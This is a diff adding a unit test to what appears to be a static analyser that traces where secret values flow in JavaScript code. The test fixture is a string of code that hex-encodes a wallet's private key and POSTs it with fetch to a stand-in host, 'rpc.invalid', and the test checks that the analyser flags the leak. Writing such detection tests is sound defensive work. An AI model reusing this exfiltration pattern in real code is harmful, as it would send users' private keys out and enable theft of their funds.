@@ -45,6 +45,16 @@ describe('functions that are called again', () => {
     assert.deepEqual(make("'parseInt', 'Number'"), []);
   });
 
+  it('give nothing of a key that an earlier call was given', () => {
+    const send = (what: string): readonly string[] =>
+      flowsOf(
+        `const hex = (bytes) => { let text = ''; for (const one of bytes) text += one.toString(16); return text; };
+          exports.run = (wallet, call) => { hex(call.a); hex(wallet.privateKey); fetch('https://rpc.invalid', { method: 'POST', body: hex(${what}) }); };`,
+      );
+    assert.deepEqual(send('call.b'), []);
+    assert.deepEqual(send('wallet.privateKey'), ['key-material>network@rpc.invalid']);
+  });
+
   it('give what they return where they may throw as well', () => {
     const found = `for (const one of list) if (one.id === id) return one; throw new Error('none');`;
     for (const body of [
